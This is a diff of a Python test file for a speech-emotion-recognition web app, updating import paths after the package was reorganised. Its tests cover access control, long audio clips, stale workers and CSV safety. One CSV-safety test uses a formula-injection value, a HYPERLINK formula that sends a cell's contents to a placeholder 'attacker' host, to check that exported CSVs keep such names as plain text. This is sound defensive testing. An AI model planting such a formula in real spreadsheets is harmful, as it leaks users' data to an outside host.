@@ -121,9 +121,9 @@ def test_test_speakers_of_a_model_are_not_markdown_on_the_evaluate_page(own_mode
 
 def test_an_hour_long_clip_is_refused_from_its_header_on_every_page_that_shows_it(tmp_path, monkeypatch):
     """A 1 MB FLAC of an hour in stereo (230 MB decoded) gets one line on Browse and Augmentations, no decode."""
-    from ser.audio import BLOCK_S
+    from ser.audio.reader import BLOCK_S
     from tests.app.test_dataset_page import long_dataset, plain
-    from tests.unit.test_audio import spy_reads
+    from tests.unit.audio.test_reader import spy_reads
 
     csv = long_dataset(tmp_path, channels=2)
     monkeypatch.setenv("SER_DATA_ROOTS", str(tmp_path))
@@ -255,7 +255,7 @@ def test_a_visitor_cannot_replace_the_demo_or_an_operators_corpus_even_with_the_
         assert any("the shipped demo clips are not changed" in plain(c.value) for c in at.caption)
         assert (PROJECT / "data" / "demo" / "all_labels.csv").read_bytes() == before
     finally:
-        from ser.importing import discard
+        from ser.datasets.importing import discard
 
         if at.session_state["nd_unpacked"] if "nd_unpacked" in at.session_state else None:
             discard(at.session_state["nd_unpacked"])
@@ -293,7 +293,7 @@ def test_a_visitor_cannot_record_into_a_protected_or_another_sessions_dataset(ow
 def test_a_visitor_cannot_train_default_nor_over_a_protected_model(own_models_folder):
     import shutil
 
-    from ser.runs import current_run
+    from ser.training.runs import current_run
 
     shutil.copytree(own_models_folder / "default", own_models_folder / "cli-model")  # made with the CLI
     for name, why in (("default", "model name 'default' is reserved"),
@@ -311,7 +311,7 @@ def test_the_operator_with_the_password_does_the_operator_actions_and_it_is_neve
                                                                                        tmp_path, monkeypatch):
     import numpy as np
 
-    from ser.features import FeatureCache
+    from ser.features.extract import FeatureCache
 
     cache = FeatureCache(tmp_path / "features")
     cache.put("aa1", np.zeros((182, 1000), dtype=np.float32))
@@ -355,7 +355,7 @@ def test_a_wrong_password_or_none_configured_unlocks_nothing(own_datasets_folder
 
 def test_only_the_starter_or_the_operator_sees_stop_on_a_training(own_models_folder):
     from ser.access import mark, Visitor
-    from ser.runs import claim
+    from ser.training.runs import claim
 
     staging = own_models_folder / ".staging" / "theirs-run"
     staging.mkdir(parents=True)
@@ -380,9 +380,9 @@ def test_a_formula_in_a_speaker_or_file_name_is_text_in_every_csv_ser_writes(tmp
     import numpy as np
 
     from ser import EMOTIONS
-    from ser.evaluate import read_results, write_report
-    from ser.importing import plan_labels, preview, save_dataset, unpack
-    from ser.labels import read_labels
+    from ser.results.evaluate import read_results, write_report
+    from ser.datasets.importing import plan_labels, preview, save_dataset, unpack
+    from ser.datasets.labels import read_labels
 
     evil = '=HYPERLINK("http://attacker/?"&A1,"click")'
     clip = next(DEMO.rglob("*.wav")).read_bytes()
@@ -434,8 +434,8 @@ def test_stopping_stale_workers_never_signals_a_reused_pid(tmp_path):
     import subprocess
     import sys
 
-    from ser.runs import _started
-    from ser.workers import stop_stale_workers
+    from ser.training.runs import _started
+    from ser.parallel.workers import stop_stale_workers
 
     other = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
     gone = subprocess.Popen([sys.executable, "-c", "pass"])
